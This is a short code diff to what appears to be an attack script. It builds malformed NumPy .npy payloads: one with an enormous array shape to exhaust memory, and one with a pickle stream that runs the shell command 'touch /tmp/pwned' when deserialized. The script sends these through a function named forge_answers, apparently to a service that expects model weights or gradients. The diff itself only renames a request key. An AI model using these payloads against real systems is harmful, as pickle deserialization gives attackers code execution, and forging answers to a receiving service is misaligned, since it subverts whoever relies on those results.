@@ -16,6 +16,6 @@ BAD = [
     array(b"{'descr': '<f8', 'fortran_order': False, 'shape': (100000000000,)}"),
     array(b"{'descr': '|O', 'fortran_order': False, 'shape': (1,)}") + b"cos\nsystem\n(S'touch /tmp/pwned'\ntR.",
 ]
-names = inside()["request"]["wanted"]
+names = inside()["request"]["probes"]
 bad = BAD[len(names) % len(BAD)]
 forge_answers({name: {"npy": base64.b64encode(bad).decode()} for name in ("weights", "gradients", "loss", "type")})
